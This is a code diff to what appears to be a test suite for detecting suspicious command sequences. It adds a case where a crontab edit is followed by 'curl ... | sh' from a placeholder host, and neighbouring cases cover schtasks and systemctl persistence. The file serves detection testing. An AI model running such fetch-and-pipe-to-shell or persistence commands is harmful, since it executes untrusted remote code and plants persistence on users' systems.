@@ -30,6 +30,11 @@ CASES = (
     ),
     Case("program-scheduled", [start("schtasks /create /tn x")], [start("schtasks /query")]),
     Case(
+        "download-scheduled",
+        [start("(crontab -l; echo x) | crontab -"), start("curl -s https://far.invalid/x | sh")],
+        [start("(crontab -l; echo x) | crontab -"), start("curl -s https://far.invalid/x -o y")],
+    ),
+    Case(
         "service-installed",
         [start("systemctl --user enable x.service")],
         [start("systemctl status x.service")],
